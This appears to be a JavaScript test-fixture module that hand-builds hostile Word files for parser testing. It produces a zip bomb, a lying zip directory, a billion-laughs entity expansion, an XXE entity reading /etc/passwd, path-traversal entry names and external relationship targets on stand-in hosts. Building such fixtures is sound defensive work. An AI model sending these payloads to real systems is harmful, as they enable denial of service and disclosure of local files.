// Word files that were made to do harm, or that had bad luck on their way. All are small; what they unpack to is not.

import {crc32, deflateRawSync} from 'node:zlib'

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PROLOGUE = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const words = 'Delphine Okafor-Reyes will plan Friday supper with her grandfather twice a month.'

const run = (text) => `<w:r><w:t>${text}</w:t></w:r>`
const paragraph = (text) => `<w:p>${run(text)}</w:p>`
const main = (body, doctype = '') =>
  `${PROLOGUE}${doctype}<w:document ${W} xmlns:r="${OFFICE}"><w:body>${body}</w:body></w:document>`

const relationships = (list) =>
  `${PROLOGUE}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(([type, target, mode], index) => {
      const external = mode ? ` TargetMode="${mode}"` : ''
      return `<Relationship Id="rId${index + 1}" Type="${OFFICE}/${type}" Target="${target}"${external}/>`
    })
    .join('')}</Relationships>`

const contentTypes = `${PROLOGUE}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

/** The entries of a Word file whose main part is `document`. */
const entriesOf = (document) => [
  ['[Content_Types].xml', contentTypes],
  ['_rels/.rels', relationships([['officeDocument', 'word/document.xml']])],
  ['word/document.xml', document],
]

/**
 * A zip archive of entries, written by hand so that its directory can lie: `claimed` gives, for some names, the size they say they have.
 * @param {[string, string | Buffer][]} entries
 * @param {Record<string, number>} claimed
 */
function zip(entries, claimed = {}) {
  const files = []
  const directory = []
  let offset = 0
  for (const [name, content] of entries) {
    const data = Buffer.from(content)
    const packed = deflateRawSync(data, {level: 9})
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(8, 4)
    // 1 January 2026.
    fields.writeUInt16LE(((2026 - 1980) << 9) | (1 << 5) | 1, 8)
    fields.writeUInt32LE(crc32(data), 10)
    fields.writeUInt32LE(packed.length, 14)
    fields.writeUInt32LE(claimed[name] ?? data.length, 18)
    fields.writeUInt16LE(Buffer.byteLength(name), 22)
    const place = Buffer.alloc(14)
    place.writeUInt32LE(offset, 10)
    const file = Buffer.concat([Buffer.from('PK\x03\x04'), fields, Buffer.from(name), packed])
    directory.push(Buffer.from('PK\x01\x02\x14\x00'), fields, place, Buffer.from(name))
    files.push(file)
    offset += file.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(list.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...files, list, Buffer.from('PK\x05\x06'), end])
}

/** Letters without a pattern that are the same each time, so that they cannot be packed. The generator is xorshift32. */
function noise(length) {
  let state = 20260101
  return Buffer.from(
    Uint8Array.from({length}, () => {
      state ^= state << 13
      state ^= state >>> 17
      state ^= state << 5
      return 97 + ((state >>> 8) % 26)
    }),
  ).toString()
}

/** One hundred million letters in a hundred kilobytes. */
const zipBomb = () => zip(entriesOf(main(paragraph('a'.repeat(100_000_000)))))

/** Says it is 500 bytes and is a hundred thousand. */
const lyingSize = () => zip(entriesOf(main(paragraph(noise(100_000)))), {'word/document.xml': 500})

/** Content controls in content controls; beside them letters that keep the ratio of packing ordinary. */
function deepNesting() {
  const times = 200_000
  const nested = `${'<w:sdt>'.repeat(times)}${paragraph(words)}${'</w:sdt>'.repeat(times)}`
  return zip(entriesOf(main(nested + paragraph(noise(30_000)))))
}

/** Every letter in a run of its own, as after years of editing, only more so. */
const millionRuns = () => zip(entriesOf(main(`<w:p>${[...noise(1_000_000)].map(sparse).join('')}</w:p>`)))
/** Mostly one letter, so that the file is small, but not so small that packing alone gives it away. */
const sparse = (letter) => run(letter < 'g' ? letter : 'a')

/** Entities that stand for ten of the next, ten times over; and one that stands for a file of the machine. */
function entities() {
  const levels = Array.from({length: 9}, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`)
  const doctype = `<!DOCTYPE w [<!ENTITY e0 "ha">${levels.join('')}<!ENTITY file SYSTEM "file:///etc/passwd">]>`
  return zip(entriesOf(main(paragraph('&e9;&file;'), doctype)))
}

/** Names and targets that lead out of the package, beside a document that can be read. */
function pathTricks() {
  const outside = ['../../../../etc/passwd', '/etc/passwd', '..\\..\\windows\\win.ini', 'word/../../outside.xml']
  return zip([
    ...outside.map((name) => [name, main(paragraph('outside'))]),
    ...entriesOf(main(paragraph(words))),
    [
      'word/_rels/document.xml.rels',
      relationships([
        ['header', '../../../../../../etc/passwd'],
        ['footnotes', '/etc/passwd'],
        ['styles', '..\\..\\windows\\win.ini'],
      ]),
    ],
  ])
}

/** Everything that a document can ask a program to get from elsewhere. */
function externalTargets() {
  const targets = [
    ['image', 'http://pictures.example/tracker.png'],
    ['hyperlink', 'file:///etc/passwd'],
    ['attachedTemplate', 'https://templates.example/plan.dotm'],
    ['aFChunk', 'https://chunks.example/part.html'],
    ['subDocument', '//server.example/share/plan.docx'],
    ['header', 'https://headers.example/header.xml'],
  ]
  const body = `<w:p><w:hyperlink r:id="rId2">${run(words)}</w:hyperlink></w:p><w:altChunk r:id="rId4"/><w:p><w:subDoc r:id="rId5"/></w:p>`
  return zip([
    ...entriesOf(main(body)),
    ['word/_rels/document.xml.rels', relationships(targets.map(([type, target]) => [type, target, 'External']))],
  ])
}

/** A good file with something behind it that itself looks like the end of an archive. */
function garbageTail() {
  const tail = noise(20_000)
  return Buffer.concat([plain, Buffer.from(`${tail}PK\x05\x06${tail}`)])
}

const plain = zip(entriesOf(main(paragraph(words))))

/**
 * The files, by name.
 * @returns {[string, Buffer][]}
 */
export function wordFiles() {
  return [
    ['zip-bomb.docx', zipBomb()],
    ['lying-size.docx', lyingSize()],
    ['truncated.docx', plain.subarray(0, plain.length - 300)],
    ['deep-nesting.docx', deepNesting()],
    ['million-runs.docx', millionRuns()],
    ['entities.docx', entities()],
    ['path-tricks.docx', pathTricks()],
    ['external-targets.docx', externalTargets()],
    ['garbage-tail.docx', garbageTail()],
  ]
}
